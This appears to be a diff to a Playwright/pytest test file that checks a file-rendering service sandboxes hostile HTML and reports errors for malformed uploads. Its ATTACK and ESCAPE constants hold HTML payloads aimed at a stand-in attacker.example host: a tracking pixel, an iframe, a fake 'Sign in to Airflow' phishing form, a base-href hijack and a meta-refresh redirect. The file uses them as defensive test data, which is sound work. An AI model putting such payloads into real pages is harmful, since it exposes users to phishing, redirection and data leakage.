@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import uuid
+from dataclasses import dataclass, field
 from typing import TYPE_CHECKING
 
 import pytest
@@ -10,12 +11,13 @@ from confluent_kafka import Producer
 from playwright.sync_api import expect
 from tests.harness.minio_records import minio_message, minio_record
 from tests.harness.samples import matrix_csv, png, table_csv
+from tests.harness.stack_fixtures import logged_in
 from tests.harness.waiting import eventually
 
 if TYPE_CHECKING:
-    from collections.abc import Callable
+    from collections.abc import Callable, Iterator
 
-    from playwright.sync_api import Page
+    from playwright.sync_api import Browser, Page
     from tests.harness.wall import Card, Wall
     from tests.harness.whole import RunningStack
 
@@ -31,15 +33,16 @@ ATTACK = b"""<h1>Harmless</h1>
 </script>
 <img src="https://attacker.example/pixel.png"><iframe src="https://attacker.example/"></iframe>
 <form action="https://attacker.example/" method="post"><button>Sign in to Airflow</button></form>
-<meta http-equiv="refresh" content="0; url=https://attacker.example/">
 <base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/a.css">
 """
+
+ESCAPE = b'<h1>Wait</h1><meta http-equiv="refresh" content="0; url=https://attacker.example/">'
 
 # Name -> content, content type, and the states it may end in.
 BAD = {
     "empty.csv": (b"", "text/csv", {"dead", "unsupported", "rendered"}),
     "empty.png": (b"", "image/png", {"dead", "unsupported", "rendered"}),
-    "truncated.png": (png(1)[:200], "image/png", GONE_WRONG),
+    "truncated.png": (png(1)[:200], "image/png", {"rendered"} | GONE_WRONG),
     "not-a-picture.png": (b"this is text", "image/png", {"rendered"} | GONE_WRONG),
     "picture.csv": (png(2), "text/csv", {"rendered"}),
     "table.png": (table_csv(), "image/png", {"rendered"}),
@@ -65,6 +68,10 @@ BAD = {
 }
 
 
+# Odd, but nothing is wrong with what is shown of them.
+NOTHING_TO_SAY = {"picture.csv", "table.png", "not-a-picture.png", "only-a-header.csv", "utf16.csv"}
+
+
 @pytest.fixture(scope="module")
 def prefix() -> str:
     return f"bad/{uuid.uuid4().hex[:8]}/"
@@ -85,7 +92,9 @@ def test_a_bad_file_has_a_card_of_its_own_that_says_what_is_wrong(cards: dict[st
     card, allowed = cards[name], BAD[name][2]
 
     assert card["state"] in allowed, card["error"]
-    if card["state"] != "rendered":
+    if card["state"] == "rendered":
+        assert card["warnings"] or name in NOTHING_TO_SAY
+    else:
         assert card["error"]["code"]
         assert len(card["error"]["message"]) > 15
         assert "Traceback" not in card["error"]["message"]
@@ -164,29 +173,61 @@ def test_an_event_delivered_many_times_is_rendered_once(
     assert (again["rendered_at"], again["attempts"]) == (card["rendered_at"], 1)
 
 
-def test_html_that_attacks_the_page_is_shut_in(page: Page, stack: RunningStack, wall: Wall, prefix: str) -> None:
+@dataclass(slots=True)
+class Harm:
+    """What a hostile page got done."""
+
+    dialogs: list[str] = field(default_factory=list)
+    sent: list[str] = field(default_factory=list)
+    windows: list[str] = field(default_factory=list)
+
+
+@pytest.fixture
+def victim(browser: Browser, stack: RunningStack) -> Iterator[tuple[Page, Harm]]:
+    """A logged-in page, and what happens to it. Errors in a hostile page's scripts are its own business."""
+    context = logged_in(browser, stack)
+    page, harm = context.new_page(), Harm()
+    page.on("dialog", lambda dialog: (harm.dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("requestfinished", lambda request: harm.sent.append(request.url))
+    context.on("page", lambda opened: harm.windows.append(opened.url))
+    yield page, harm
+    context.close()
+
+
+def test_html_that_attacks_the_page_is_shut_in(
+    victim: tuple[Page, Harm], stack: RunningStack, wall: Wall, prefix: str
+) -> None:
+    page, harm = victim
     card = wall.show(f"{prefix}attack.html", ATTACK, "text/html")
     assert card["state"] == "rendered", card["error"]
-    dialogs: list[str] = []
-    sent: list[str] = []
-    windows: list[str] = []
-    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
-    page.context.on("page", lambda opened: windows.append(opened.url))
-    page.on("requestfinished", lambda request: sent.append(request.url))
 
     page.goto(f"{stack.url}{card['page']}")
     frame = page.locator("iframe").first.content_frame
     expect(frame.locator("body")).to_contain_text("Harmless", timeout=30_000)
-    eventually(lambda: page.frames[1:], what="the frame")
+    frame.locator("form button").click()
 
     assert page.url == f"{stack.url}{card['page']}"
     assert "PWNED" not in page.title()
     assert page.evaluate("localStorage.getItem('pwned')") is None
-    assert [url for url in sent if "attacker.example" in url] == []
-    assert (dialogs, windows) == ([], [])
-    assert page.evaluate("document.cookie") is not None
+    assert [url for url in harm.sent if "attacker.example" in url] == []
+    assert (harm.dialogs, harm.windows) == ([], [])
     sandboxes = page.locator("iframe").evaluate_all("frames => frames.map(frame => frame.getAttribute('sandbox'))")
     assert all(sandbox is not None and "allow-same-origin" not in sandbox for sandbox in sandboxes)
+
+
+def test_html_that_leads_away_gets_nowhere(
+    victim: tuple[Page, Harm], stack: RunningStack, wall: Wall, prefix: str
+) -> None:
+    page, harm = victim
+    card = wall.show(f"{prefix}escape.html", ESCAPE, "text/html")
+
+    page.goto(f"{stack.url}{card['page']}")
+    eventually(lambda: page.frames[1:], what="the frame")
+    page.wait_for_load_state("networkidle")
+
+    assert page.url == f"{stack.url}{card['page']}"
+    assert [url for url in harm.sent if "attacker.example" in url] == []
+    expect(page.locator("h1")).to_contain_text("escape.html")
 
 
 def test_a_huge_table_is_sampled_within_bounded_memory_and_says_so(wall: Wall, prefix: str) -> None:
